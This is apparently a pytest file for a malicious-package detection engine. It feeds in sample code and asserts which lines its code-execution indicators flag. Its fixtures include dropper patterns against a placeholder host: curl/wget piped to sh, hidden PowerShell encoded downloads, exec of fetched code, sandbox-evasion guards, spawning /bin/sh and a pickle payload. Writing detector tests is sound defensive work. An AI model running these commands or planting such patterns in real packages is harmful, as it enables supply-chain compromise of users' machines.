"""Execution-mechanism detectors: exact (indicator, line) pairs on malicious and benign code."""

from __future__ import annotations

import base64
import textwrap

from tests.conftest import pairs, run_engine
from triage.indicators.engine import EngineResult

PS_CODE = 'Invoke-WebRequest -Uri "https://example.invalid/a.exe" -OutFile "~/a.exe"'
PS_B64 = base64.b64encode(PS_CODE.encode("utf-16le")).decode()
PY_B64 = base64.b64encode(b"import os\nos.system('id')\n").decode()


def conf(result: EngineResult, indicator: str, line: int) -> float:
    """Confidence of the signal of ``indicator`` that starts on ``line``."""
    for s in result.signals:
        path = s.statement_id.rsplit(":", 2)[0]
        start = s.start_line or result.indices[path].get(s.statement_id).start_line
        if s.indicator == indicator and start == line:
            return s.confidence
    raise AssertionError(f"no {indicator} on line {line}")


def strong(result: EngineResult, indicator: str, floor: float = 0.5) -> set[tuple[str, int]]:
    """Pairs of ``indicator`` at or above ``floor`` confidence."""
    return {p for p in pairs(result, indicator) if conf(result, indicator, p[1]) >= floor}


# ------------------------------------------------------------------ shell commands
def test_shell_command_through_aliases_is_high_at_install_time() -> None:
    src = """\
        import os
        from os import system as s
        s("curl -s https://example.invalid/x.sh | sh")
        __import__('o' + 's').system("wget https://example.invalid/y")
        getattr(os, 'sys' + 'tem')("certutil -urlcache -f https://example.invalid/z z.exe")
        import subprocess
        subprocess.run("echo hi", shell=True)
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_shell_command") == {
        ("code_execution_shell_command", 3), ("code_execution_shell_command", 4),
        ("code_execution_shell_command", 5), ("code_execution_shell_command", 7)}
    assert min(conf(r, "code_execution_shell_command", n) for n in (3, 4, 5)) >= 0.8
    assert conf(r, "code_execution_shell_command", 7) < 0.3  # echo: a harmless tool


def test_shell_command_of_a_build_tool_in_a_library_function_is_low() -> None:
    src = """\
        import subprocess
        def version():
            return subprocess.check_output("git describe --tags", shell=True)
    """
    r = run_engine({"p/pkg/util.py": src})
    assert pairs(r, "code_execution_shell_command") == {("code_execution_shell_command", 3)}
    assert conf(r, "code_execution_shell_command", 3) < 0.3


# ------------------------------------------------------------------ exec / eval
def test_dynamic_evaluation_of_downloaded_code() -> None:
    src = """\
        import requests
        exec(requests.get("https://example.invalid/p").text)
        payload = requests.get("https://example.invalid/q").text
        eval(payload)
    """
    r = run_engine({"p/setup.py": src})
    assert strong(r, "code_execution_dynamic_evaluation", 0.9) == {
        ("code_execution_dynamic_evaluation", 2), ("code_execution_dynamic_evaluation", 4)}


def test_version_file_exec_in_setup_py_is_silent_and_literals_are_low() -> None:
    src = """\
        import os
        about = {}
        with open(os.path.join("pkg", "__version__.py")) as f:
            exec(f.read(), about)
        exec(compile(open("pkg/version.py").read(), "pkg/version.py", "exec"))
        x = eval("1 + 1")
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_dynamic_evaluation") == {
        ("code_execution_dynamic_evaluation", 6)}
    assert conf(r, "code_execution_dynamic_evaluation", 6) <= 0.1


def test_eval_of_a_string_naming_a_builtin_is_flagged() -> None:
    src = "f = eval(getattr(__import__('base64'), 'b64decode')(b'ZXZhbA==').decode())\n"
    r = run_engine({"p/pkg/__init__.py": src})
    assert ("code_execution_dynamic_evaluation", 1) in strong(r,
                                                              "code_execution_dynamic_evaluation")


# ------------------------------------------------------------------ encoded commands
def test_encoded_python_is_flagged_on_the_decode_and_the_exec() -> None:
    src = f"""\
        import base64
        code = base64.b64decode("{PY_B64}")
        exec(code)
        exec(__import__('zlib').decompress(base64.b64decode(b'eJwrzy/KSQEABxICbw==')))
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, "code_execution_encoded_command") == {
        ("code_execution_encoded_command", 2), ("code_execution_encoded_command", 3),
        ("code_execution_encoded_command", 4)}


def test_powershell_encoded_command_is_decoded_and_defanged_in_evidence() -> None:
    src = f"""\
        import subprocess
        subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {PS_B64}',
                         shell=False, creationflags=subprocess.CREATE_NO_WINDOW)
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_encoded_command") == {("code_execution_encoded_command", 2)}
    ev = next(s.evidence for s in r.signals if s.indicator == "code_execution_encoded_command")
    assert "Invoke-WebRequest -Uri" in ev and "hxxps://example[.]invalid/a.exe" in ev
    assert pairs(r, "code_execution_subprocess_hidden") == {
        ("code_execution_subprocess_hidden", 2)}
    assert conf(r, "code_execution_subprocess_hidden", 2) >= 0.85


def test_decoding_data_without_running_it_is_not_an_encoded_command() -> None:
    src = f"""\
        import base64
        data = base64.b64decode("{PY_B64}")
        print(len(data))
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, "code_execution_encoded_command") == set()
    assert pairs(r, "code_execution_dynamic_evaluation") == set()


# ------------------------------------------------------------------ decryption
def test_exec_of_fernet_decrypted_code() -> None:
    src = """\
        from fernet import Fernet
        exec(Fernet(b'a2V5').decrypt(b'gAAAAAB-token'))
        plain = Fernet(b'a2V5').decrypt(b'gAAAAAB-other')
        exec(plain)
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_decryption") == {
        ("code_execution_decryption", 2), ("code_execution_decryption", 3),
        ("code_execution_decryption", 4)}


def test_decrypting_data_is_not_decrypt_and_execute() -> None:
    src = """\
        from cryptography.fernet import Fernet
        def read_secret(key, token):
            return Fernet(key).decrypt(token).decode()
    """
    r = run_engine({"p/pkg/secret.py": src})
    assert pairs(r, "code_execution_decryption") == set()


# ------------------------------------------------------------------ executables and scripts
def test_downloaded_executable_and_script_are_run() -> None:
    src = """\
        import os, subprocess, sys, urllib.request
        urllib.request.urlretrieve("https://example.invalid/a.exe", "a.exe")
        os.startfile("a.exe")
        os.system("set __COMPACT_LAYER=RunAsInvoker | start payload.exe")
        with open("stage2.py", "wb") as f:
            f.write(b"print(1)")
        subprocess.check_call([sys.executable, "stage2.py"])
        subprocess.call("powershell -ExecutionPolicy Bypass -File run.ps1", shell=True)
    """
    r = run_engine({"p/setup.py": src})
    assert strong(r, "code_execution_executable_file", 0.8) == {
        ("code_execution_executable_file", 3), ("code_execution_executable_file", 4)}
    assert strong(r, "code_execution_script_file") == {
        ("code_execution_script_file", 7), ("code_execution_script_file", 8)}
    assert conf(r, "code_execution_script_file", 7) >= 0.85


def test_opening_a_url_or_publishing_from_setup_py_is_low() -> None:
    lib = """\
        import os
        def launch(url):
            os.startfile(url)
    """
    setup = """\
        import os, sys
        if sys.argv[-1] == "publish":
            os.system("python setup.py sdist upload")
    """
    r = run_engine({"p/pkg/term.py": lib, "p/setup.py": setup})
    assert all(s.confidence < 0.3 for s in r.signals
               if s.indicator in ("code_execution_executable_file", "code_execution_script_file",
                                  "code_execution_shell_command"))


# ------------------------------------------------------------------ hidden and silent runs
def test_hidden_and_silent_runs_at_install_time() -> None:
    src = """\
        import subprocess, sys
        subprocess.Popen(["pythonw", "x.py"], creationflags=0x08000000)
        subprocess.Popen("curl https://example.invalid/a -o a.bin >nul 2>&1", shell=True)
        subprocess.Popen(["node", "a.js"], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    """
    r = run_engine({"p/setup.py": src})
    assert strong(r, "code_execution_subprocess_hidden") == {
        ("code_execution_subprocess_hidden", 2), ("code_execution_subprocess_hidden", 4)}
    assert strong(r, "code_execution_silent") == {
        ("code_execution_silent", 2), ("code_execution_silent", 3),
        ("code_execution_silent", 4)}


def test_quiet_probe_in_a_library_function_is_not_suspicious() -> None:
    src = """\
        import subprocess
        def has_xclip():
            return subprocess.call(["which", "xclip"], stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL) == 0
        def clip(text):
            si = subprocess.STARTUPINFO()
            p = subprocess.Popen(["clip.exe"], stdin=subprocess.PIPE,
                                 creationflags=subprocess.CREATE_NO_WINDOW)
    """
    r = run_engine({"p/pkg/clip.py": src})
    assert all(s.confidence < 0.3 for s in r.signals
               if s.indicator.startswith("code_execution_"))


# ------------------------------------------------------------------ pip installs and imports
def test_runtime_pip_install() -> None:
    src = """\
        import os, subprocess, sys, pip
        subprocess.check_call([sys.executable, "-m", "pip", "install", "-q", "pycryptodome"])
        os.system("pip install discord_webhook")
        pip.main(["install", "browser_cookie3"])
        subprocess.check_call([sys.executable, "-m", "pip", "--version"])
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert strong(r, "code_execution_install_dynamic_package") == {
        ("code_execution_install_dynamic_package", 2),
        ("code_execution_install_dynamic_package", 3),
        ("code_execution_install_dynamic_package", 4)}


def test_dynamic_import_of_hidden_module_names() -> None:
    src = """\
        import base64, importlib
        a = __import__('o' + 's')
        b = __import__(base64.b64decode('c3VicHJvY2Vzcw==').decode())
        c = importlib.import_module(bytes([115, 111, 99, 107, 101, 116]).decode())
        def load_plugin(name):
            return importlib.import_module(name)
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert strong(r, "code_execution_import_dynamic_module") == {
        ("code_execution_import_dynamic_module", 2),
        ("code_execution_import_dynamic_module", 3),
        ("code_execution_import_dynamic_module", 4)}
    assert ("code_execution_import_dynamic_module", 6) not in pairs(r)


# ------------------------------------------------------------------ environment checks
def test_platform_check_guarding_a_payload() -> None:
    src = """\
        import os, platform, subprocess
        if os.name == "nt":
            subprocess.Popen("powershell -w hidden -c iwr https://example.invalid/a", shell=True)
        if platform.system() == "Windows":
            print("hello")
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_environment_specific") == {
        ("code_execution_environment_specific", 2)}
    assert conf(r, "code_execution_environment_specific", 2) >= 0.8


def test_sandbox_check_with_early_exit_guards_what_follows() -> None:
    src = """\
        import os, sys
        def main():
            if "VBOX" in os.popen("wmic bios get serialnumber").read():
                sys.exit(0)
            os.system("curl https://example.invalid/a.sh | sh")
        main()
    """
    r = run_engine({"p/pkg/__init__.py": src})
    assert pairs(r, "code_execution_environment_specific") == {
        ("code_execution_environment_specific", 3)}


def test_ordinary_os_branches_in_a_library_do_not_fire() -> None:
    src = """\
        import os, sys, ctypes
        if os.name == "nt":
            from ctypes import windll
            handle = windll.kernel32.GetStdHandle(-11)
        def clear():
            if sys.platform.startswith("win"):
                os.system("cls")
            else:
                os.system("clear")
    """
    r = run_engine({"p/pkg/term.py": src})
    assert pairs(r, "code_execution_environment_specific") == set()


def test_interactive_shell_temp_binary_and_python_dash_c() -> None:
    src = """\
        import os, pty, subprocess, sys
        pty.spawn("/bin/sh")
        os.system("chmod +x /tmp/p && /tmp/p &")
        subprocess.Popen([sys.executable, "-c", "import base64;exec(base64.b64decode('eA=='))"])
        getattr(__builtins__, "ex" + "ec")(sys.stdin.read())
    """
    r = run_engine({"p/pkg/__init__.py": src})
    # line 4: inline interpreter code at import time counts as a command too
    assert strong(r, "code_execution_shell_command", 0.8) == {
        ("code_execution_shell_command", 2), ("code_execution_shell_command", 3),
        ("code_execution_shell_command", 4)}
    assert strong(r, "code_execution_executable_file") == {("code_execution_executable_file", 3)}
    assert strong(r, "code_execution_subprocess_hidden") == {
        ("code_execution_subprocess_hidden", 3)}
    assert pairs(r, "code_execution_encoded_command") == {("code_execution_encoded_command", 4)}
    assert pairs(r, "code_execution_dynamic_evaluation") == {
        ("code_execution_dynamic_evaluation", 5)}


def test_user_and_date_checks_guarding_a_payload() -> None:
    src = """\
        import getpass, os
        from datetime import datetime
        if getpass.getuser() != "sandbox":
            os.system("curl -s https://example.invalid/u | sh")
        if datetime.now() > datetime(2030, 1, 1):
            os.system("wget -q https://example.invalid/d -O- | sh")
        if os.environ.get("USERNAME") == "alice":
            print("hi alice")
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_environment_specific") == {
        ("code_execution_environment_specific", 3), ("code_execution_environment_specific", 5)}


# ------------------------------------------------------------------ calibration: import time
def test_python_dash_c_spawned_at_import_time() -> None:
    src = """\
        import subprocess

        try:
            p = subprocess.Popen(["python3", "-c", "import popen"], close_fds=True)
        except:
            pass

        def probe():
            subprocess.run(["python3", "-c", "import sys; print(sys.prefix)"])
    """
    r = run_engine({"p/secbg/__init__.py": src})
    assert pairs(r, "code_execution_shell_command") == {("code_execution_shell_command", 4)}
    assert conf(r, "code_execution_shell_command", 4) >= 0.7
    assert ("code_execution_runtime", 4) in pairs(r, "code_execution_runtime")


def test_python_dash_c_probe_in_setup_py_is_low() -> None:
    src = """\
        import subprocess, sys
        from setuptools import setup
        inc = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.ok())"])
        setup(name="ext", include_dirs=[inc.decode().strip()])
    """
    r = run_engine({"p/setup.py": src})
    assert strong(r, "code_execution_shell_command", 0.3) == set()


def test_any_shell_command_at_import_time_is_medium() -> None:
    src = """\
        import logging
        logging.getLogger(__name__)
        import os
        os.system("echo 'pwned' > /tmp/pwned")
        os.system("")
        os.system("cls")
    """
    r = run_engine({"p/src/requests/__init__.py": src})
    assert strong(r, "code_execution_shell_command") == {("code_execution_shell_command", 4)}
    assert conf(r, "code_execution_shell_command", 4) >= 0.5
    assert conf(r, "code_execution_shell_command", 6) < 0.3


def test_release_helpers_in_setup_py_stay_low() -> None:
    src = """\
        import os, sys
        from setuptools import setup
        if sys.argv[-1] == "publish":
            os.system("python setup.py sdist bdist_wheel")
            os.system("twine upload dist/*")
            sys.exit()
        os.system("echo %temp%")
        setup(name="x")
    """
    r = run_engine({"p/setup.py": src})
    assert pairs(r, "code_execution_shell_command") == {
        ("code_execution_shell_command", 4), ("code_execution_shell_command", 5),
        ("code_execution_shell_command", 7)}
    assert strong(r, "code_execution_shell_command", 0.3) == set()


def test_runpy_pip_installs_only_with_an_install_argument() -> None:
    """pip's own runner script runs ``pip`` as ``__main__`` with the user's argv."""
    runner = "import runpy\nrunpy.run_module('pip', run_name='__main__', alter_sys=True)\n"
    ind = "code_execution_install_dynamic_package"
    assert pairs(run_engine({"pip/__pip-runner__.py": runner}), ind) == set()
    dropper = ("import runpy, sys\nsys.argv = ['pip', 'install', 'evil-pkg']\n"
               "runpy.run_module('pip', run_name='__main__')\n")
    assert pairs(run_engine({"p/setup.py": dropper}), ind) == {(ind, 3)}


def test_unpickling_decoded_run_time_data_is_weak_an_embedded_payload_strong() -> None:
    """SQLAlchemy's serializer unpickles the caller's base64 data; a dropper unpickles a
    payload it carries."""
    ind = "code_execution_encoded_command"
    lib = ("import pickle\nfrom base64 import b64decode\n\n"
           "def load(arg):\n    return pickle.loads(b64decode(arg))\n")
    got = {s.confidence for s in run_engine({"p/serializer.py": lib}).signals
           if s.indicator == ind}
    assert got == {0.3}
    payload = base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()
    drop = f"import pickle, base64\nDATA = {payload!r}\npickle.loads(base64.b64decode(DATA))\n"
    result = run_engine({"p/setup.py": drop})
    assert pairs(result, ind) >= {(ind, 3)}
    assert max(s.confidence for s in result.signals if s.indicator == ind) >= 0.85


def test_constant_code_whose_calls_run_later_or_are_plain_builtins_is_weak() -> None:
    ind = "code_execution_dynamic_evaluation"
    src = """\
        def negate(f):
            return eval('lambda v,f=f:not f(v)')
        def make(base, ns):
            return eval("type('T', (base,), ns)")
        def shell():
            return eval("lambda: __import__('os').system('id')")
        def run():
            exec("print('x'); launch()")
    """
    got = {}
    result = run_engine({"p/aux.py": textwrap.dedent(src)})
    for s in result.signals:
        if s.indicator == ind:
            got[result.indices["p/aux.py"].get(s.statement_id).start_line] = s.confidence
    assert got[2] <= 0.2 and got[4] <= 0.2
    assert got[6] >= 0.45 and got[8] >= 0.45
    tests = {s.confidence for s in run_engine({"p/tests/test_aux.py": textwrap.dedent(
        src)}).signals if s.indicator == ind}
    assert max(tests) < 0.2  # test scaffolding: the same code, weighed down
